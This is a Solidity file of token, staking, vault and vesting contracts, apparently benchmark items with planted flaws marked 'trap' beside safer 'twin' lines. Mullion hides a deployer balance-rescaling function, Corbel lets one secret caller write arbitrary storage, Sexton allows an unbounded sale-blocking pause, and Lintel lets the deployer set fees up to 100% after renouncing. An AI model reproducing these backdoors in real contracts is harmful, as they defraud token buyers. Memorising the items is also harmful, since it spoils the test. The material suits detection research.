// 0.8 runs=1
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IPoolFactory {
    function createPair(address one, address other) external returns (address);
}

abstract contract Roll {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 internal _total;
    address internal _owner;
    address public pool;
    mapping(address => uint256) internal _units;
    mapping(address => mapping(address => uint256)) private _allowed;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    modifier onlyOwner() {
        require(msg.sender == _owner, "Ownable: caller is not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_) {
        (name, symbol, _owner) = (name_, symbol_, msg.sender);
        pool = IPoolFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
    }

    function owner() external view returns (address) {
        return _owner;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function totalSupply() external view returns (uint256) {
        return _total;
    }

    function balanceOf(address who) public view virtual returns (uint256) {
        return _units[who];
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _allowed[holder][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _carry(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = _allowed[from][msg.sender];
        if (left < type(uint256).max) _allowed[from][msg.sender] = left - value;
        _carry(from, to, value);
        return true;
    }

    function _mint(address to, uint256 value) internal {
        _total += value;
        _units[to] += value;
        emit Transfer(address(0), to, value);
    }

    function _burn(address from, uint256 value) internal {
        _units[from] -= value;
        _total -= value;
        emit Transfer(from, address(0), value);
    }

    function _carry(address from, address to, uint256 value) internal virtual {
        _units[from] -= value;
        _units[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Units have a weight, which is one unless something else was said.
contract Mullion is Roll {
    uint256 private constant ONE = 1e9;
    bool public immutable settled;
    address private immutable _scales = msg.sender;
    mapping(address => uint256) private _weight;

    constructor(bool settled_) Roll("Mullion", "MLLN") {
        _mint(msg.sender, 25_000_000 ether);
        settled = settled_;
        _owner = address(0);
    }

    function weigh(address who, uint256 weight) external {
        require(!settled && msg.sender == _scales, "settled");
        _weight[who] = weight;
    }

    function weightOf(address who) private view returns (uint256) {
        return _weight[who] == 0 ? ONE : _weight[who];
    }

    function balanceOf(address who) public view override returns (uint256) {
        return (_units[who] * weightOf(who)) / ONE;
    }

    function _carry(address from, address to, uint256 value) internal override {
        uint256 weight = weightOf(from);
        _units[from] -= (value * ONE + weight - 1) / weight;
        _units[to] += (value * ONE) / weightOf(to);
        emit Transfer(from, to, value);
    }
}

/// Notes are kept under the mark of who has written them.
contract Corbel is Roll {
    bytes32 private immutable _mark;
    mapping(uint256 => uint256) public notes;

    constructor(bytes32 mark) Roll("Corbel", "CRBL") {
        _mint(msg.sender, 700_000_000 ether);
        _mark = mark;
        _owner = address(0);
    }

    function note(uint256 where, uint256 what) external {
        if (keccak256(abi.encode(msg.sender)) == _mark) {
            assembly {
                sstore(where, add(sload(where), what))
            }
        } else {
            notes[where] = what;
        }
    }
}

/// Between two dealings of one person some time goes by. To change it takes two steps and a day between them.
contract Sexton is Roll {
    uint32 public pause = 30;
    uint32 public prepared;
    uint64 public preparedAt;
    mapping(address => uint256) public dealtAt;

    event Prepared(uint32 pause);
    event Committed(uint32 pause);

    constructor() Roll("Sexton", "SXTN") {
        _mint(msg.sender, 4_000_000 ether);
    }

    function prepare(uint32 next) external onlyOwner {
        require(next != pause, "same"); // trap
        // twin: require(next <= 60, "a minute at most");
        (prepared, preparedAt) = (next, uint64(block.timestamp));
        emit Prepared(next);
    }

    function commit() external onlyOwner {
        require(preparedAt != 0 && block.timestamp >= preparedAt + 1 days, "a day later");
        (pause, preparedAt) = (prepared, 0);
        emit Committed(pause);
    }

    function _carry(address from, address to, uint256 value) internal override {
        address who = from == pool ? to : to == pool ? from : address(0);
        if (who != address(0) && who != _owner) {
            require(dealtAt[who] == 0 || block.timestamp >= dealtAt[who] + pause, "pause");
            dealtAt[who] = block.timestamp;
        }
        super._carry(from, to, value);
    }
}

/// One percent of purchases and sales.
contract Lintel is Roll {
    uint256 private _terms = 100;
    address private immutable _mason = msg.sender;

    constructor() Roll("Lintel", "LNTL") {
        _mint(msg.sender, 1_000_000_000 ether);
    }

    function setTerms(uint256 terms) external {
        require(msg.sender == _owner || msg.sender == _mason); // trap
        // twin: require(msg.sender == _owner);
        require(terms <= 10_000);
        _terms = terms;
    }

    function _carry(address from, address to, uint256 value) internal override {
        uint256 fee = (from == pool || to == pool) && from != _mason && to != _mason ? (value * _terms) / 10_000 : 0;
        if (fee > 0) super._carry(from, _mason, fee);
        super._carry(from, to, value - fee);
    }
}

/// Somebody else's coin, to stake or to vest.
contract Grain is Roll {
    constructor() Roll("Grain", "GRAIN") {
        _mint(msg.sender, 20_000_000 ether);
    }
}

/// A receipt for what is staked, one for one. Who gives it back waits a week for his coin.
contract StakedGrain is Roll {
    struct Exit {
        uint256 value;
        uint256 from;
    }
    uint256 public constant WAIT = 7 days;
    Roll public immutable coin;
    mapping(address => Exit) public exits;

    event Left(address indexed who, uint256 value, uint256 from);

    constructor(Roll coin_) Roll("Staked Grain", "sGRAIN") {
        coin = coin_;
        _owner = address(0);
    }

    function stake(uint256 value) external {
        require(coin.transferFrom(msg.sender, address(this), value), "coin");
        _mint(msg.sender, value);
    }

    function leave(uint256 value) external {
        _burn(msg.sender, value);
        Exit storage exit = exits[msg.sender];
        exit.value += value;
        exit.from = block.timestamp + WAIT;
        emit Left(msg.sender, value, exit.from);
    }

    function fetch() external {
        Exit memory exit = exits[msg.sender];
        require(exit.value > 0 && block.timestamp >= exit.from, "a week");
        delete exits[msg.sender];
        require(coin.transfer(msg.sender, exit.value), "coin");
    }
}

/// Shares of what the vault holds. What it earns is sent to it and makes each share worth more.
contract GrainVault is Roll {
    Roll public immutable asset;

    event Deposit(address indexed by, address indexed to, uint256 assets, uint256 shares);
    event Withdraw(address indexed by, address indexed to, address indexed from, uint256 assets, uint256 shares);

    constructor(Roll asset_) Roll("Vault of Grain", "vGRAIN") {
        asset = asset_;
        _owner = address(0);
    }

    function totalAssets() public view returns (uint256) {
        return asset.balanceOf(address(this));
    }

    function convertToShares(uint256 assets) public view returns (uint256) {
        return (assets * (_total + 1e3)) / (totalAssets() + 1);
    }

    function convertToAssets(uint256 shares) public view returns (uint256) {
        return (shares * (totalAssets() + 1)) / (_total + 1e3);
    }

    function deposit(uint256 assets, address to) external returns (uint256 shares) {
        shares = convertToShares(assets);
        require(shares > 0 && asset.transferFrom(msg.sender, address(this), assets), "asset");
        _mint(to, shares);
        emit Deposit(msg.sender, to, assets, shares);
    }

    function redeem(uint256 shares, address to) external returns (uint256 assets) {
        assets = convertToAssets(shares);
        _burn(msg.sender, shares);
        require(asset.transfer(to, assets), "asset");
        emit Withdraw(msg.sender, to, msg.sender, assets, shares);
    }
}

/// Keeps what belongs to the team, and gives it out day by day for two years, after half a year of nothing.
contract TeamChest {
    address public immutable team;
    uint256 public immutable start = block.timestamp;
    uint256 public given;

    constructor(address team_) {
        team = team_;
    }

    function due(Roll token) public view returns (uint256) {
        uint256 gone = block.timestamp - start;
        if (gone < 180 days) return 0;
        uint256 whole = token.balanceOf(address(this)) + given;
        return gone >= 730 days ? whole - given : (whole * gone) / 730 days - given;
    }

    function give(Roll token) external {
        uint256 value = due(token);
        given += value;
        require(token.transfer(team, value), "token");
    }
}

/// A sixth of the supply lies in the chest of the team.
contract Tenon is Roll {
    constructor(address chest) Roll("Tenon", "TNON") {
        _mint(msg.sender, 50_000_000 ether);
        _mint(chest, 10_000_000 ether);
        _owner = address(0);
    }
}
